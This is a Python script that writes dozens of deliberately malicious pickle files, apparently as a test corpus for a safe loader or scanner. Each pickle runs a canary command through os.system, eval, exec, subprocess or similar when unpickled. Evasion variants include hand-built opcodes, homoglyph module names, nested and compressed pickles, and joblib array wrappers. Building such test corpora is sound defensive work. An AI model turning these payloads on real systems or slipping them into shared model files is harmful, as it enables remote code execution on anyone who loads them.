"""
Writes pickles that try to run code when they are loaded, in every protocol and compression, and a few that are broken or too large.

Usage: python attacks.py FOLDER CANARY. Loading any of them carelessly creates the file CANARY (or ends in ruin). Prints the names.
"""

import bz2
import codecs
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import zlib

folder, canary = sys.argv[1], sys.argv[2]
command = f"touch {canary}"


class Call:
    """Pickles as a call of a function by its name."""

    def __init__(self, module, name, *args):
        self.module, self.name, self.args = module, name, args


def text(value):
    return b"V" + value.encode("raw_unicode_escape") + b"\n"


def by_hand(module, name, *args):
    """GLOBAL, MARK, arguments, TUPLE, REDUCE, STOP: protocol 0 as no library would write it."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(text(one) for one in args) + b"tR."


def stack_global(module, name, *args):
    def short(value):
        raw = value.encode()
        return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw

    return b"\x80\x04" + short(module) + short(name) + b"\x93(" + b"".join(short(one) for one in args) + b"tR."


written = {}
CALLS = {
    "os-system": ("os", "system", command),
    "posix-system": ("posix", "system", command),
    "nt-system": ("nt", "system", command),
    "popen": ("os", "popen", command),
    "subprocess": ("subprocess", "getoutput", command),
    "check-output": ("subprocess", "check_output", "touch"),
    "eval": ("builtins", "eval", f"__import__('os').system({command!r})"),
    "exec": ("builtins", "exec", f"import os; os.system({command!r})"),
    "old-eval": ("__builtin__", "eval", f"__import__('os').system({command!r})"),
    "import": ("builtins", "__import__", "antigravity"),
    "getattr": ("builtins", "getattr", "x", "y"),
    "open": ("builtins", "open", canary, "w"),
    "breakpoint": ("builtins", "breakpoint"),
    "runpy": ("runpy", "run_path", canary),
    "importlib": ("importlib", "import_module", "os"),
    "pty": ("pty", "spawn", "touch"),
    "timeit": ("timeit", "timeit", f"import os; os.system({command!r})"),
    "profile": ("cProfile", "run", f"import os; os.system({command!r})"),
    "bdb": ("bdb", "Bdb", "x"),
    "code": ("code", "interact"),
    "ctypes": ("ctypes", "CDLL", "libc.so.6"),
    "socket": ("socket", "create_connection", "x"),
    "urllib": ("urllib.request", "urlopen", "http://127.0.0.1:9/"),
    "shutil": ("shutil", "rmtree", "/nowhere"),
    "webbrowser": ("webbrowser", "open", "http://127.0.0.1:9/"),
    "pickle-loads": ("pickle", "loads", "x"),
    "marshal": ("marshal", "loads", "x"),
    "operator": ("operator", "attrgetter", "system"),
    "methodcaller": ("operator", "methodcaller", "system", command),
    "types-function": ("types", "FunctionType", "x"),
    "types-code": ("types", "CodeType", "x"),
    "logging": ("logging.config", "listen"),
    "numpy-load": ("numpy", "load", canary),
    "numpy-testing": ("numpy.testing._private.utils", "runstring", f"import os; os.system({command!r})"),
    "numpy-f2py": ("numpy.f2py.diagnose", "run"),
    "numpy-dotted": ("numpy", "f2py.os.system", command),
    "sklearn-dotted": ("sklearn.utils", "os.system", command),
    "sklearn-datasets": ("sklearn.datasets", "fetch_openml", "iris"),
    "sklearn-externals": ("sklearn.externals.joblib", "load", canary),
    "sklearn-dunder": ("sklearn.base", "__import__", "os"),
    "sklearn-function": ("sklearn.utils.validation", "has_fit_parameter", "x"),
    "joblib-load": ("joblib", "load", canary),
    "joblib-externals": ("joblib.externals.loky.backend.popen_loky_posix", "Popen", "x"),
    "joblib-memory": ("joblib.memory", "Memory", "x"),
    "pandas-pickle": ("pandas.io.pickle", "read_pickle", canary),
    "pandas-eval": ("pandas", "eval", "1"),
    "cloudpickle": ("cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
    "dill": ("dill._dill", "_create_code", "x"),
    "torch": ("torch.hub", "load", "x"),
    "unknown-package": ("somebodys_package.models", "Estimator", "x"),
    "main-class": ("__main__", "MyModel"),
}
for name, (module, function, *args) in CALLS.items():
    written[f"hand-{name}"] = by_hand(module, function, *args)
    written[f"stack-{name}"] = stack_global(module, function, *args)


class Reduced:
    def __reduce__(self):
        return os.system, (command,)


class Nested:
    """A state that calls when it is set."""

    def __reduce__(self):
        return (list, (), None, iter([Reduced()]))


for protocol in range(6):
    written[f"reduce-{protocol}"] = pickle.dumps(Reduced(), protocol)
    written[f"in-dict-{protocol}"] = pickle.dumps({"model": [1, (Reduced(),)]}, protocol)
    written[f"iterated-{protocol}"] = pickle.dumps(Nested(), protocol)
plain = pickle.dumps({"model": Reduced()}, 4)
for name, packed in {"zlib": zlib.compress(plain), "gzip": gzip.compress(plain), "bz2": bz2.compress(plain), "xz": lzma.compress(plain), "lzma": lzma.compress(plain, lzma.FORMAT_ALONE)}.items():
    written[f"packed-{name}"] = packed
written["inst"] = b"(S'" + command.encode() + b"'\nios\nsystem\n."
written["obj"] = b"(cos\nsystem\nS'" + command.encode() + b"'\no."
written["newobj-ex"] = b"\x80\x04cos\nsystem\n(" + text(command) + b"t}\x92."
written["proto-in-middle"] = b"\x80\x04N0\x80\x02" + by_hand("os", "system", command)
written["memo"] = b"\x80\x04cos\nsystem\n\x94h\x00(" + text(command) + b"tR."
written["put-get"] = b"cos\nsystem\np7\ng7\n(" + text(command) + b"tR."
written["extension"] = b"\x80\x02\x82\x01)R."
written["persistent"] = b"Pos\n."
written["pop-mark"] = b"(NNN1" + by_hand("os", "system", command)
written["frame"] = b"\x80\x04\x95" + struct.pack("<Q", 200) + by_hand("os", "system", command) + b"\x00" * 200
written["name-with-space"] = stack_global("os ", "system", command)
written["name-with-nul"] = stack_global("os\x00", "system", command)
written["unicode-name"] = stack_global("оs", "system", command)
written["twice-nested"] = pickle.dumps({"inner": pickle.dumps(Reduced(), 4)}, 4) + plain
written["build-on-module"] = b"\x80\x02csys\nmodules\n}U\x02osNsb."
written["setitem-on-dict"] = b"\x80\x02cbuiltins\n__dict__\nU\x04evalNs."
written["array-then-call"] = (
    b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + by_hand("joblib.numpy_pickle", "NumpyArrayWrapper") [:-1] + b"0" + by_hand("os", "system", command)
)


def object_array():
    """joblib writes arrays of objects as pickles inside: the careless loader reads those without its checks."""
    head = pickle.dumps(None, 4)[:2]
    wrapper = b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}(\x8c\x08subclass\x8c\x05numpy\x8c\x07ndarray\x93\x8c\x05shapeK\x01\x85\x8c\x05order\x8c\x01C\x8c\x05dtype\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02O8\x89\x88\x87R\x8c\x0aallow_mmap\x89ub"
    return wrapper + plain + b"."


written["object-array"] = object_array()
for name, data in list(written.items()):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data)
print("\n".join(written))
